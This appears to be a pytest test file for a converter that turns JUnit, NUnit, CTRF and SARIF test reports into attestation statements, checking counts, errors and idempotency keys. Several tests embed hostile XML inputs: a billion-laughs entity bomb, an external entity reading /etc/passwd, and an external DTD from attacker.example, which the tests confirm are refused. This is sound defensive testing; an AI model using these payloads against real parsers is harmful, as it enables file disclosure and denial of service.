"""The test-report converter of `evledger attest`, `check_statement` and the idempotency key.

Fixtures are reports as real tools write them (tests/unit/fixtures): pytest
--junitxml and a Maven Surefire TEST-*.xml, and under attest/ gotestsum,
jest-junit, GoogleTest, NUnit 3 console and a Playwright CTRF report. Negative
cases are named after the attack or the defect. The SARIF converter is tested
in test_attest_sarif.py.
"""

from __future__ import annotations

import hashlib
import json

import msgspec
import pytest
from attest_support import DIGEST, FIXTURES, JUNIT_RUN, RUN, admitted, cases, junit, sarif
from defusedxml.ElementTree import fromstring as defused_fromstring

from ledger.errors import EncodingError, InputError, TooLargeError
from ledger.records import test_reports
from ledger.records.attest import check_statement, idempotency_key, statement_from_junit, statement_from_sarif
from ledger.records.predicates import SCAN, TEST_RUN
from ledger.records.test_reports import MAX_REPORT_BYTES

# JUnit


@pytest.mark.parametrize(
    ("fixture", "counts"),
    [("junit-pytest.xml", (3, 2, 2)), ("junit-surefire.xml", (3, 2, 1))],
)
def test_junit_reports_from_real_tools(fixture, counts):
    xml = (FIXTURES / fixture).read_bytes()
    run = junit(xml)
    assert (run.passed, run.failed, run.skipped) == counts
    assert run.result == "failed"
    assert run.report_digest == "sha256:" + hashlib.sha256(xml).hexdigest()
    assert (run.suite, run.command, run.commit, run.environment) == ("regression", "pytest", "4f1c2a9", "ci")
    assert run.report_location is None


def test_surefire_flaky_test_that_passed_on_rerun_counts_as_passed():
    run = junit(cases("<flakyFailure message='timeout'><stackTrace>x</stackTrace></flakyFailure>", ""))
    assert (run.passed, run.failed, run.result) == (2, 0, "passed")


def test_errors_count_as_failures_and_any_failure_fails_the_run():
    run = junit(cases("", "<error message='setup'/>", "<skipped/>"))
    assert (run.passed, run.failed, run.skipped, run.result) == (1, 1, 1, "failed")


def test_all_passed_or_skipped_is_a_passed_run():
    run = junit(cases("", "<system-out>ok</system-out>", "<skipped message='no GPU'/>"))
    assert (run.passed, run.failed, run.skipped, run.result) == (2, 0, 1, "passed")


def test_nested_suites_and_namespaced_elements_are_counted():
    xml = (
        b'<testsuites><testsuite name="a"><testsuite name="a.b">'
        b'<testcase name="x"><failure/></testcase></testsuite>'
        b'<testcase name="y"/></testsuite>'
        b'<j:testsuite xmlns:j="urn:junit"><j:testcase name="z"><j:skipped/></j:testcase></j:testsuite>'
        b"</testsuites>"
    )
    run = junit(xml)
    assert (run.passed, run.failed, run.skipped) == (1, 1, 1)


def test_report_location_and_uppercase_digest():
    payload = statement_from_junit(
        cases(""), **{**JUNIT_RUN, "subject_digest": DIGEST.upper().replace("SHA256", "sha256")},
        report_location="https://ci.example.org/jobs/88412/report.xml",
    )  # fmt: skip
    run = admitted(payload, TEST_RUN)
    assert run.report_location == "https://ci.example.org/jobs/88412/report.xml"


def test_conversion_is_deterministic():
    xml = (FIXTURES / "junit-pytest.xml").read_bytes()
    assert statement_from_junit(xml, **JUNIT_RUN) == statement_from_junit(xml, **JUNIT_RUN)
    statement = json.loads(statement_from_junit(xml, **JUNIT_RUN))
    assert list(statement) == sorted(statement)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"suite": "smoke"}, "suite must be one of"),
        ({"subject_digest": "4a5e1e4b"}, "sha256:<64 hex digits>"),
        ({"subject_digest": "sha256:" + "g" * 64}, "sha256:<64 hex digits>"),
        ({"subject_digest": "sha512:" + "a" * 128}, "sha256:<64 hex digits>"),
        ({"product": " "}, "product must not be empty"),
        ({"commit": ""}, "commit must not be empty"),
        ({"subject_name": ""}, "subject name must not be empty"),
    ],
)
def test_bad_arguments_are_refused(change, message):
    with pytest.raises(InputError, match=message):
        statement_from_junit(cases(""), **{**JUNIT_RUN, **change})


@pytest.mark.parametrize(
    ("xml", "message"),
    [
        (
            b"<testsuite><testcase name='a'></testsuite>",
            "JUnit XML report is not well-formed XML: mismatched tag",
        ),
        (b"", "JUnit XML report is not well-formed XML"),
        (b"\xff\xfe<\x00", "not well-formed"),
        (b"<html><body>502 Bad Gateway</body></html>", "root element is <html>"),
        (b"<testsuites><testsuite name='empty' tests='0'/></testsuites>", "no <testcase> element"),
    ],
)
def test_malformed_or_empty_junit_is_refused(xml, message):
    with pytest.raises(EncodingError, match=message):
        statement_from_junit(xml, **JUNIT_RUN)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<testsuite><testcase name="&lol9;"/></testsuite>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<testsuite><testcase name="leak"><failure message="&secret;"/></testcase></testsuite>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite SYSTEM "http://attacker.example/junit.dtd">
<testsuite><testcase name="a"/></testsuite>"""


@pytest.mark.parametrize(
    "xml",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        EXTERNAL_DTD,
        EXTERNAL_ENTITY.decode().replace('"1.0"?', '"1.0" encoding="UTF-16"?').encode("utf-16"),
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "external-entity-in-utf16"],
)
def test_doctype_and_entity_declarations_are_refused(xml):
    with pytest.raises(EncodingError, match="declares a DOCTYPE"):
        statement_from_junit(xml, **JUNIT_RUN)


def test_doctype_text_inside_cdata_is_only_text():
    run = junit(cases("<system-out><![CDATA[<!DOCTYPE html><!ENTITY x 'y'>]]></system-out>"))
    assert run.passed == 1


def test_oversized_report_is_refused_before_parsing():
    huge = b"<testsuite>" + b" " * MAX_REPORT_BYTES + b"</testsuite>"
    with pytest.raises(TooLargeError, match="over the 20971520-byte limit"):
        statement_from_junit(huge, **JUNIT_RUN)
    with pytest.raises(TooLargeError):
        statement_from_sarif(huge, **RUN)


# Disabled tests, NUnit 3 and CTRF

ATTEST_FIXTURES = FIXTURES / "attest"


@pytest.mark.parametrize(
    ("fixture", "counts"),
    [
        # GoogleTest: two DISABLED_ tests (status="notrun" result="suppressed", no child) and a GTEST_SKIP
        ("googletest.xml", (1, 1, 3)),
        # NUnit 3 console: Passed x3 (two parameterized), Failed twice (one Error), Ignored, Inconclusive
        ("nunit3-console.xml", (3, 2, 2)),
        # Playwright CTRF: passed x3 (one flaky), failed, skipped, other (interrupted)
        ("ctrf-playwright.json", (3, 1, 2)),
    ],
)
def test_test_reports_from_real_tools_are_detected_and_counted(fixture, counts):
    report = (ATTEST_FIXTURES / fixture).read_bytes()
    run = junit(report)
    assert (run.passed, run.failed, run.skipped) == counts
    assert run.result == "failed"
    assert run.report_digest == "sha256:" + hashlib.sha256(report).hexdigest()


@pytest.mark.parametrize(
    ("fixture", "report_format", "counts"),
    [
        # gotestsum --junitfile: the parent of a failed subtest fails too; a t.Skip is <skipped>
        ("attest/gotestsum.xml", "junit", (4, 2, 1)),
        ("attest/jest-junit.xml", "junit", (2, 1, 2)),
        ("junit-surefire.xml", "junit", (3, 2, 1)),
        ("attest/nunit3-console.xml", "nunit", (3, 2, 2)),
        ("attest/ctrf-playwright.json", "ctrf", (3, 1, 2)),
    ],
)
def test_report_format_can_be_named(fixture, report_format, counts):
    run = junit((FIXTURES / fixture).read_bytes(), report_format=report_format)
    assert (run.passed, run.failed, run.skipped) == counts


@pytest.mark.parametrize(
    "case",
    [
        '<testcase name="a" status="disabled"/>',  # CTest, Jenkins junit-10.xsd
        '<testcase name="a" status="notrun"/>',
        '<testcase name="a" status="run" result="suppressed"/>',  # GoogleTest DISABLED_
        '<testcase name="a"><disabled/></testcase>',
    ],
)
def test_disabled_test_case_counts_as_skipped_not_passed(case):
    run = junit(f'<testsuite><testcase name="ok"/>{case}</testsuite>'.encode())
    assert (run.passed, run.failed, run.skipped, run.result) == (1, 0, 1, "passed")


def test_failure_outranks_a_disabled_status():
    run = junit(
        b'<testsuite><testcase name="a" status="disabled"><failure/></testcase>'
        b'<testcase name="b" status="disabled"/></testsuite>'
    )
    assert (run.passed, run.failed, run.skipped) == (0, 1, 1)


def test_suite_declaring_disabled_tests_it_does_not_mark_has_them_counted_as_skipped():
    xml = (
        b'<testsuites disabled="3">'  # the aggregate of the suites below: not counted again
        b'<testsuite name="a" disabled="2"><testcase name="x"/><testcase name="y"/><testcase name="z"/>'
        b"</testsuite>"
        b'<testsuite name="b" disabled="1"><testcase name="p"/><testcase name="q" status="notrun"/>'
        b"</testsuite></testsuites>"
    )
    run = junit(xml)
    assert (run.passed, run.failed, run.skipped) == (2, 0, 3)


def test_suite_whose_disabled_count_is_not_a_number_is_refused():
    with pytest.raises(EncodingError, match="<testsuite disabled='two'> is not a count"):
        statement_from_junit(b'<testsuite disabled="two"><testcase name="a"/></testsuite>', **JUNIT_RUN)


def nunit(*results: str, run_result: str = "Passed") -> bytes:
    body = "".join(f'<test-case id="0-{n}" name="T{n}" result="{r}"/>' for n, r in enumerate(results))
    return (
        f'<?xml version="1.0" encoding="utf-8"?><test-run id="0" result="{run_result}">'
        f'<test-suite type="Assembly" name="A.dll">{body}</test-suite></test-run>'
    ).encode()


def test_nunit_warning_and_inconclusive_are_no_pass():
    run = junit(nunit("Passed", "Warning", "Inconclusive"))
    assert (run.passed, run.failed, run.skipped, run.result) == (1, 0, 2, "passed")


@pytest.mark.parametrize("run_result", ["Failed", "Failed(Child)"])
def test_nunit_run_failed_outside_its_test_cases_is_a_failed_run(run_result):
    run = junit(nunit("Passed", "Passed", run_result=run_result))  # e.g. a OneTimeTearDown failed
    assert (run.passed, run.failed, run.result) == (2, 1, "failed")


@pytest.mark.parametrize(
    ("report", "report_format", "error", "message"),
    [
        (nunit("Passed", "Success"), "auto", EncodingError, "has result 'Success', not one of Passed"),
        (nunit(), "auto", EncodingError, "NUnit XML report holds no <test-case>"),
        (b"<test-results><test-case result='Success'/></test-results>", "nunit", EncodingError,
         r"root element is <test-results>, not <test-run> \(NUnit 3\)"),
        (b"<html/>", "auto", EncodingError, r"<html>, not <testsuites> or <testsuite> \(JUnit\) or"),
        (nunit("Passed"), "junit", EncodingError, "root element is <test-run>, not <testsuites>"),
        (cases(""), "ctrf", EncodingError, "CTRF report is not a CTRF report"),
        (b'{"results": {"tool": {"name": "jest"}, "summary": {}, "tests": []}}', "auto", EncodingError,
         "CTRF report lists no test"),
        (b'{"results": {"tool": {"name": "jest"}, "tests": [{"name": "a", "status": "passed"}]}}', "auto",
         EncodingError, "missing required field `summary`"),
        (b'{"results": {"tool": {"name": "jest"}, "summary": {}, "tests": [{"name": "a", "status": "ok"}]}}',
         "auto", EncodingError, "Invalid enum value 'ok'"),
        (cases(""), "xunit", InputError, "the report format must be one of auto, junit, nunit, ctrf"),
    ],
)  # fmt: skip
def test_malformed_nunit_and_ctrf_reports_are_refused(report, report_format, error, message):
    with pytest.raises(error, match=message):
        statement_from_junit(report, **JUNIT_RUN, report_format=report_format)


def test_ctrf_report_with_a_byte_order_mark_is_read():
    report = b"\xef\xbb\xbf\n" + (ATTEST_FIXTURES / "ctrf-playwright.json").read_bytes()
    run = junit(report)
    assert (run.passed, run.failed, run.skipped) == (3, 1, 2)
    assert run.report_digest == "sha256:" + hashlib.sha256(report).hexdigest()


# Hostile XML


@pytest.mark.parametrize(
    ("fixture", "leak"),
    [("billion-laughs.xml", b"lollollol"), ("xxe.xml", b"root:")],
)
def test_attack_entity_files_are_refused_and_never_expanded(fixture, leak):
    report = (ATTEST_FIXTURES / fixture).read_bytes()
    with pytest.raises(InputError, match="declares a DOCTYPE") as refused:
        statement_from_junit(report, **JUNIT_RUN)
    assert leak.decode() not in str(refused.value)
    assert len(str(refused.value)) < 300


def test_attack_xml_is_parsed_only_by_defusedxml_with_dtds_forbidden(monkeypatch):
    calls = []

    def spy(data, **options):
        calls.append(options)
        return defused_fromstring(data, **options)

    monkeypatch.setattr(test_reports, "defused_fromstring", spy)
    junit(cases(""))
    with pytest.raises(EncodingError, match="declares a DOCTYPE"):
        statement_from_junit((ATTEST_FIXTURES / "xxe.xml").read_bytes(), **JUNIT_RUN)
    assert calls  # every parse of a report, for its counts and its requirements, forbids DTDs
    assert all(options == {"forbid_dtd": True} for options in calls)


# check_statement and idempotency keys


def test_check_statement_returns_the_bytes_unchanged():
    payload = b' {"_type": "https://in-toto.io/Statement/v1", "subject": [{"digest": {"sha256": "ab"}}],\n'
    payload += b' "predicateType": "https://example.org/sbom/v1", "predicate": {"anything": [1, 2]}} '
    assert check_statement(payload) is payload
    produced = statement_from_sarif(sarif([]), **RUN)
    assert check_statement(produced) == produced


@pytest.mark.parametrize(
    ("predicate_type", "predicate", "message"),
    [
        (TEST_RUN, {"release": {"product": "p", "version": "1"}}, "test-run predicate is invalid"),
        (SCAN, {"release": {"product": "p", "version": "1"}, "tool": "t", "tool_version": "1",
                "findings": {"high": -1}}, "scan findings must be >= 0"),
        ("https://evledger.dev/release-seal/v1", {"release": {"product": "p"}, "count": 0, "head": "0" * 64},
         "release-seal predicate is invalid"),
        ("https://example.org/generic/v1", {"release": {"product": ""}},
         "product must be a string of 1 to 256 characters"),
    ],
)  # fmt: skip
def test_check_statement_refuses_what_admission_refuses(predicate_type, predicate, message):
    payload = msgspec.json.encode(
        {
            "_type": "https://in-toto.io/Statement/v1",
            "subject": [{"name": "a", "digest": {"sha256": "ab" * 32}}],
            "predicateType": predicate_type,
            "predicate": predicate,
        }
    )
    with pytest.raises(EncodingError, match=message):
        check_statement(payload)


def test_idempotency_key_names_the_evidence_not_the_attempt():
    xml = (FIXTURES / "junit-pytest.xml").read_bytes()
    payload = statement_from_junit(xml, **JUNIT_RUN)
    key = idempotency_key(payload, xml)
    assert key == idempotency_key(statement_from_junit(xml, **JUNIT_RUN), xml)
    assert key.startswith("evledger-attest:test-run:")
    assert key.isascii()
    assert key.isprintable()
    assert len(key) <= 200
    other_report = cases("")
    assert idempotency_key(statement_from_junit(other_report, **JUNIT_RUN), other_report) != key
    other_subject = {**JUNIT_RUN, "subject_digest": "sha256:" + "0" * 64}
    assert idempotency_key(statement_from_junit(xml, **other_subject), xml) != key
    other_release = {**JUNIT_RUN, "version": "2.4.1"}
    assert idempotency_key(statement_from_junit(xml, **other_release), xml) != key
    sarif_log = (FIXTURES / "semgrep.sarif").read_bytes()
    sarif_key = idempotency_key(statement_from_sarif(sarif_log, **RUN), sarif_log)
    assert sarif_key.startswith("evledger-attest:scan:")
